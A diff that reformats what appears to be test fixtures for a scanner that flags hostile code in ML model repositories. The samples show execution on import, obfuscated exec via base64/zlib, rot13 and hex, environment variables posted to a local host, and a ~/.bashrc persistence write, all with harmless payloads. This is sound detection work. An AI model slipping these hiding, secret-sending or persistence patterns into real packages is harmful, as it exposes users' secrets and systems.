@@ -28,10 +28,10 @@ IMPORT = {
     "decorator": 'import os\n@lambda f: os.system("true") and f\ndef forward(x):\n    return x\n',
     "annotation": 'import os\nx: os.system("true") = 1\n',
     "metaclass": 'import os\nclass Meta(type):\n    def __new__(mcs, *a):\n        os.system("true")\n'
-                 "        return super().__new__(mcs, *a)\nclass Net(metaclass=Meta):\n    pass\n",
+    "        return super().__new__(mcs, *a)\nclass Net(metaclass=Meta):\n    pass\n",
     "init-subclass": 'import os\nclass Base:\n    def __init_subclass__(cls):\n        os.system("true")\n'
-                     "class Net(Base):\n    pass\n",
-    "set-name": 'import os\nclass D:\n    def __set_name__(self, o, n):\n        os.system("true")\nclass Net:\n    d = D()\n',
+    "class Net(Base):\n    pass\n",
+    "set-name": 'import os\nclass D:\n    def __set_name__(self, o, n):\n        os.system("true")\nclass Net:\n    d = D()\n',  # noqa: E501
     "called-function": 'import os\ndef prepare():\n    helper()\ndef helper():\n    os.system("true")\nprepare()\n',
     "handed-over": 'import os\nlist(map(os.system, ["true"]))\n',
     "argument": 'import os\ndef f(m):\n    m.system("true")\nf(os)\n',
@@ -52,7 +52,7 @@ IMPORT = {
     "in-a-lambda": 'import os\n(lambda f: f("true"))(os.system)\n',
     "match": 'import os\nmatch os:\n    case m:\n        m.system("true")\n',
     "pip": 'import pip\npip.main(["--version"])\n',
-}  # fmt: skip
+}
 
 HIDDEN = {
     "base64-exec": f'import base64, zlib\nexec(zlib.decompress(base64.b64decode("{_PACKED}")))\n',
@@ -65,29 +65,29 @@ HIDDEN = {
     "imported-by-pieces": 'm = __import__("sub" + "process")\nm.run(["true"])\n',
     "rot13": f"import codecs\nexec(codecs.decode({_ROT!r}, 'rot13'))\n",
     "codec-method": f"code = bytes.fromhex('{_HEX}')\nrun = eval('ex' + 'ec')\nrun(code)\n",
-    "in-steps": f'import base64 as b\nblob = "{_PACKED}"\nraw = b.b64decode(blob)\nimport zlib as z\ntext = z.decompress(raw)\n'
-                "def go(t):\n    exec(t)\ngo(text)\n",
+    "in-steps": f'import base64 as b\nblob = "{_PACKED}"\nraw = b.b64decode(blob)\nimport zlib as z\ntext = z.decompress(raw)\n'  # noqa: E501
+    "def go(t):\n    exec(t)\ngo(text)\n",
     "encoding-cookie": "# -*- coding: utf-7 -*-\nx = 1\n",
     "letters": "import os\n\U0001d4f8\U0001d4fc.\U0001d4fc\U0001d502\U0001d4fc\U0001d4fd\U0001d4ee\U0001d4f6('true')\n",
-}  # fmt: skip
+}
 
 USED = {
     "forward": f'{_MODULE}    def forward(self, x):\n        __import__("os").system("true")\n        return x\n',
     "init": f'{_MODULE}    def __init__(self):\n        import subprocess\n        subprocess.Popen(["true"])\n',
-    "helper-of-forward": f'import os\n{_MODULE}    def forward(self, x):\n        return self.step(x)\n\n'
-                         '    def step(self, x):\n        os.system("true")\n        return x\n',
-    "kept-on-self": f'import os\n{_MODULE}    def __init__(self):\n        self.f = os.popen\n\n'
-                    '    def forward(self, x):\n        return self.f("true")\n',
+    "helper-of-forward": f"import os\n{_MODULE}    def forward(self, x):\n        return self.step(x)\n\n"
+    '    def step(self, x):\n        os.system("true")\n        return x\n',
+    "kept-on-self": f"import os\n{_MODULE}    def __init__(self):\n        self.f = os.popen\n\n"
+    '    def forward(self, x):\n        return self.f("true")\n',
     "eval-in-forward": f'{_MODULE}    def forward(self, x, expression="1"):\n        return eval(expression)\n',
     "native": 'import ctypes\n\n\ndef load_model(path):\n    return ctypes.CDLL("./x.so")\n',
     "endpoint": 'import os\n\n\nclass EndpointHandler:\n    def __init__(self, path=""):\n        os.system("true")\n',
     "sagemaker": 'import subprocess\n\n\ndef model_fn(folder):\n    subprocess.run(["true"])\n',
     "triton": 'import os\n\n\nclass TritonPythonModel:\n    def initialize(self, args):\n        os.system("true")\n',
     "mlflow": 'import os\n\n\nclass M:\n    def load_context(self, context):\n        os.system("true")\n',
-    "dataset": 'import os\n\n\nclass D:\n    def _generate_examples(self, path):\n        os.system("true")\n        yield 0, {}\n',
-    "environment": 'import os, requests\n\n\ndef predict(x):\n    requests.post("http://127.0.0.1:9", json=dict(os.environ))\n',
-    "startup-file": 'import os\n\n\ndef build(x):\n    with open(os.path.expanduser("~/.bashrc"), "a") as f:\n        f.write("true")\n',
-}  # fmt: skip
+    "dataset": 'import os\n\n\nclass D:\n    def _generate_examples(self, path):\n        os.system("true")\n        yield 0, {}\n',  # noqa: E501
+    "environment": 'import os, requests\n\n\ndef predict(x):\n    requests.post("http://127.0.0.1:9", json=dict(os.environ))\n',  # noqa: E501
+    "startup-file": 'import os\n\n\ndef build(x):\n    with open(os.path.expanduser("~/.bashrc"), "a") as f:\n        f.write("true")\n',  # noqa: E501
+}
 
 REVIEWED = {
     "unparsable": "def f(:\n",
@@ -98,28 +98,54 @@ REVIEWED = {
 }
 
 FILES: dict[str, tuple[str, str, str]] = {
-    "setup": ("setup.py", 'import os\nfrom setuptools import setup\nos.system("true")\nsetup(name="x")\n', "code-on-import"),
+    "setup": (
+        "setup.py",
+        'import os\nfrom setuptools import setup\nos.system("true")\nsetup(name="x")\n',
+        "code-on-import",
+    ),
     "path-file": ("x.pth", 'import os; os.system("true")\n', "code-on-import"),
     "site": ("sitecustomize.py", "x = 1\n", "code-on-import"),
-    "notebook": ("a.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": ["import os\n", "os.system('true')\n"],
-                 "outputs": []}], "nbformat": 4, "nbformat_minor": 5, "metadata": {}}), "code-on-import"),
-}  # fmt: skip
+    "notebook": (
+        "a.ipynb",
+        json.dumps(
+            {
+                "cells": [
+                    {"cell_type": "code", "source": ["import os\n", "os.system('true')\n"], "outputs": []}
+                ],
+                "nbformat": 4,
+                "nbformat_minor": 5,
+                "metadata": {},
+            }
+        ),
+        "code-on-import",
+    ),
+}
 
 
 def _cases(kind: str, texts: dict[str, str], rules: tuple[str, ...], how: str) -> list[Case]:
     return [
-        hostile(f"code-{kind}-{name}", "modeling_net.py", lambda _f, t=text: t.encode(),  # type: ignore[misc]
-                f"{how}: {name.replace('-', ' ')}", rules, "review" if kind == "reviewed" else "reject")
+        hostile(
+            f"code-{kind}-{name}",
+            "modeling_net.py",
+            lambda _f, t=text: t.encode(),  # type: ignore[misc]
+            f"{how}: {name.replace('-', ' ')}",
+            rules,
+            "review" if kind == "reviewed" else "reject",
+        )
         for name, text in texts.items()
-    ]  # fmt: skip
+    ]
 
 
 def cases() -> list[Case]:
     """What runs on import, what hides, what runs in use, what a person has to read, and files of other names."""
     found = _cases("import", IMPORT, ("code-on-import",), "runs when it is imported")
     found += _cases("hidden", HIDDEN, ("code-obfuscated", "code-on-import"), "hides what it runs")
-    found += _cases("used", USED, ("code-on-use", "code-secrets", "code-persistence"), "runs when the model is used")
-    found += _cases("reviewed", REVIEWED, ("code-capability", "code-unparsable", "code-hidden-text"), "to be read")
+    found += _cases(
+        "used", USED, ("code-on-use", "code-secrets", "code-persistence"), "runs when the model is used"
+    )
+    found += _cases(
+        "reviewed", REVIEWED, ("code-capability", "code-unparsable", "code-hidden-text"), "to be read"
+    )
     found += [
         hostile(f"code-file-{name}", file, lambda _f, t=text: t.encode(), f"code in {file}", (rule,))  # type: ignore[misc]
         for name, (file, text, rule) in FILES.items()
